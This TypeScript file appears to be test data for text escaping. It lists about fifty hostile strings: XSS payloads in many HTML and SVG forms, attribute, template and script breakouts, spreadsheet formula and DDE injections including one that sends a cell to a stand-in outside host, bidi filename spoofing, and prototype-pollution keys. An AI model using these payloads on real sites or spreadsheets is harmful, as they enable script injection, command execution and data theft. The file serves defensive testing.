/** What runs where a text is taken for markup or a script: it leaves a mark on the page. Short, as a name has to be. */
const RUN = "planted=1";
const IMAGE = "//stranger.example/a";
const LONGEST_BEGINS = `<img data-planted src=x onerror=${RUN}>`;

/** Fifty texts that would do something if a page took them for more than text. Markup carries `data-planted`. */
export const hostileTexts: readonly string[] = [
  // Elements that run, load or lead away by themselves.
  `<script data-planted>${RUN}</script>`,
  `</p></main><script data-planted src=//stranger.example/a.js></script>`,
  `<img data-planted src=x onerror="${RUN}">`,
  `<img data-planted src=${IMAGE}>`,
  `<svg data-planted onload="${RUN}"><title>x</title></svg>`,
  `<svg data-planted><script>${RUN}</script></svg>`,
  `<svg data-planted><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<math data-planted><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<iframe data-planted srcdoc="<script>parent.planted=1</script>"></iframe>`,
  `<iframe data-planted src="javascript:${RUN}"></iframe>`,
  `<object data-planted data="${IMAGE}"></object><embed data-planted src="${IMAGE}">`,
  `<video data-planted><source onerror="${RUN}"></video>`,
  `<details data-planted open ontoggle="${RUN}">`,
  `<input data-planted autofocus onfocus="${RUN}">`,
  `<form data-planted action=//stranger.example><button>Save</button></form>`,
  `<meta data-planted http-equiv=refresh content="0;url=//stranger.example">`,
  `<base data-planted href=//stranger.example/>`,
  `<link data-planted rel=stylesheet href=//stranger.example/a.css>`,
  `<style data-planted>body{background:url(${IMAGE})}</style>`,
  `<template data-planted><script>${RUN}</script></template>`,
  `<a data-planted href="javascript:${RUN}">Libraries</a>`,
  `<b data-planted style="position:fixed;inset:0">Parks</b>`,
  `<body data-planted onload="${RUN}">`,
  `<!--<img data-planted src=x onerror=planted=1>--!><img data-planted src=x onerror=planted=1>`,
  `<![CDATA[<img data-planted src=x onerror=planted=1>]]>`,
  // Ways out of an attribute, an entity, a template, a script or a style.
  `" data-planted onmouseover="${RUN}" x="`,
  `' data-planted onfocus='${RUN}' tabindex='0`,
  "&lt;img data-planted src=x onerror=planted=1&gt;",
  "&#60;script data-planted&#62;planted=1&#60;/script&#62; &amp;amp; &nbsp;",
  "javascript:planted=1//",
  "data:text/html,<script data-planted>planted=1</script>",
  "\u0024{planted=1} #{planted} {{constructor.constructor('planted=1')()}} <%= planted %>",
  "<!--lit-part--><?lit$123$?>{{lit-0}} lit$",
  "\\u003cimg data-planted src=x onerror=planted=1\\u003e",
  "x');planted=1;('",
  "} body { background: red } /*",
  // What a spreadsheet would take for a formula.
  '=WEBSERVICE("//stranger.example/"&A1)',
  '=HYPERLINK("//stranger.example","Libraries")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1-IMPORTXML("//stranger.example","//a")',
  // Characters that turn, hide, end or break a text.
  "Libraries\u202Egnp.exe\u202C and \u2066parks\u2069",
  "zero\u200Bwidth\u200D\uFEFF\u00ADjoined",
  "a family 👨\u200D👩\u200D👧\u200D👦, a flag 🏴󠁧󠁢󠁷󠁬󠁳󠁿, Z\u0351\u036B\u0343algo",
  "_x003C_script_x003E_ and _x0000_",
  // Names that every object has already.
  "__proto__",
  "constructor",
  "toString",
  // As long as a cell can be.
  `${LONGEST_BEGINS}${"L".repeat(32_767 - LONGEST_BEGINS.length)}`,
];

/** More of the kind, which no file can hold and a page might yet be given. */
export const unfileableTexts: readonly string[] = [
  "half \uD83D of a pair",
  "\uDE00 the other half",
  "a null\u0000 and a bell\u0007, an escape\u001B[31m and a delete\u007F",
  "hasOwnProperty\u0000",
];
